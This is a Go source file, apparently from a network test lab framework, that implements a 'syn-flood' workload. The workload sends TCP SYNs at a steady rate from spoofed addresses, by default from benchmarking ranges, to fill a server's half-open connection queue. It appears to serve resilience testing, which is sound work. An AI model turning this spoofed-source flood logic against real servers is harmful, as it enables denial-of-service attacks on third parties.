package flood

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"sync"
	"time"

	"netlab/ip"
	"netlab/services"
	"netlab/services/target"
	"netlab/units"
)

// DefaultSources are the addresses that SYNs claim to come from: those for benchmarks of networks (RFC 2544; RFC 5180 for IPv6).
const (
	DefaultSources  = "198.18.0.0/15"
	DefaultSources6 = "2001:2::/48"
)

// maxRate keeps ticks apart: a host sends one SYN at a time.
const maxRate units.Rate = 10_000_000

// SYNConfig configures the workload "syn-flood".
type SYNConfig struct {
	To       services.Target `json:"to" jsonschema_description:"The server. The port is 80 when it is left out." jsonschema:"required"`
	Rate     units.Rate      `json:"rate" jsonschema_description:"SYNs of each host in a time, evenly." jsonschema:"required"`
	Sources  string          `json:"sources,omitempty" jsonschema_description:"Network that the SYNs claim to come from: each takes an address of it and a port at random. own is the host's own address, whose stack resets what the server answers. Default 198.18.0.0/15, for a server with an IPv6 address 2001:2::/48; what is sent there has to vanish for the flood to work, so no router may say that there is no way."`
	Duration units.Duration  `json:"duration,omitempty" zero:"refused" jsonschema_description:"How long it goes on. Default: until the end of the run."`
	Count    uint64          `json:"count,omitempty" jsonschema_description:"How many SYNs each host sends at most. Default: no limit."`
}

const own = "own"

// Validate implements services.Config.
func (c *SYNConfig) Validate() error {
	list := []error{target.CheckPort("to", c.To)}
	add := func(field, format string, args ...any) { list = append(list, services.Fieldf(field, format, args...)) }
	if c.Rate <= 0 || c.Rate > maxRate {
		add("rate", "found %s, wanted more than 0/s and at most %s", c.Rate, maxRate)
	}
	if c.Sources != "" && c.Sources != own {
		if p, err := netip.ParsePrefix(c.Sources); err != nil || p != p.Masked() {
			add("sources", "%q is no network: want one such as %q, or own", c.Sources, DefaultSources)
		}
	}
	if c.Duration < 0 {
		add("duration", "found %s, wanted more than 0s", c.Duration)
	}
	return errors.Join(list...)
}

// Endless implements services.Config.
func (c *SYNConfig) Endless() bool { return c.Duration == 0 && c.Count == 0 }

// Calls implements services.Caller.
func (c *SYNConfig) Calls() []services.Call {
	return []services.Call{target.Call("to", c.To, services.TCP, httpPort)}
}

// SYN describes the workload.
var SYN = services.Type{
	Name: "syn-flood", Role: services.Workload,
	Doc: "Sends the first segments of TCP connections at a steady rate, from made-up addresses, and never goes on: an attack that " +
		"fills the server's queue of half-open connections.",
	Config: func() services.Config { return &SYNConfig{} },
	Result: func() any { return new(SYNResult) },
	New: func(config services.Config, _ services.Info) (services.Runner, error) {
		return &synRunner{config: *config.(*SYNConfig)}, nil
	},
}

// SYNResult is what the workload reports, over all hosts that it ran on.
type SYNResult struct {
	// Sent counts SYNs. What becomes of them, the server's tcp figures say: listen_overflows and syn_cookies.
	Sent uint64 `json:"sent"`
}

type synRunner struct {
	config SYNConfig
	mu     sync.Mutex
	sent   uint64
}

// Run implements services.Runner.
func (r *synRunner) Run(ctx context.Context, env *services.Env) error {
	c := &r.config
	addr, err := target.Resolve(ctx, env.Host, c.To, "")
	if err != nil {
		return err
	}
	_, port, _ := target.Split(c.To) // it was checked
	if port == 0 {
		port = httpPort
	}
	sources, err := c.sources(env.Host, addr)
	if err != nil {
		return err
	}
	to := netip.AddrPortFrom(addr, port)
	start := env.Elapsed()
	for i := uint64(0); c.Count == 0 || i < c.Count; i++ {
		after := time.Duration(float64(i) / float64(c.Rate) * float64(time.Second))
		if c.Duration > 0 && after >= c.Duration.Std() || env.SleepUntil(ctx, start+after) != nil {
			break
		}
		from := sources(env)
		env.Host.SendSYN(ip.Flow{Protocol: tcpProtocol, Source: from, Destination: to}, env.Random.Uint32())
		r.mu.Lock()
		r.sent++
		r.mu.Unlock()
	}
	return nil
}

// tcpProtocol is TCP's number in IP headers.
const tcpProtocol = 6

// sources returns what draws the source of each SYN.
func (c *SYNConfig) sources(h *ip.Host, to netip.Addr) (func(env *services.Env) netip.AddrPort, error) {
	const lowest, ports = 1024, 1<<16 - 1024
	text := c.Sources
	if text == own {
		for _, a := range h.Addresses() {
			if a.Is4() == to.Is4() {
				return func(env *services.Env) netip.AddrPort {
					return netip.AddrPortFrom(a, uint16(lowest+env.Random.IntN(ports)))
				}, nil
			}
		}
		return nil, fmt.Errorf("%s has no address of the IP version of %s", h.Name(), to)
	}
	if text == "" {
		text = DefaultSources
		if to.Is6() {
			text = DefaultSources6
		}
	}
	p := netip.MustParsePrefix(text)
	if p.Addr().Is4() != to.Is4() {
		return nil, fmt.Errorf("sources %s and the server's address %s are of different IP versions", text, to)
	}
	return func(env *services.Env) netip.AddrPort {
		b := p.Addr().AsSlice()
		for bit := p.Bits(); bit < len(b)*8; bit++ {
			if env.Random.Uint32()&1 != 0 {
				b[bit/8] |= 0x80 >> (bit % 8)
			}
		}
		a, _ := netip.AddrFromSlice(b)
		return netip.AddrPortFrom(a, uint16(lowest+env.Random.IntN(ports)))
	}, nil
}

// Result implements services.Runner.
func (r *synRunner) Result() any {
	r.mu.Lock()
	defer r.mu.Unlock()
	return &SYNResult{Sent: r.sent}
}
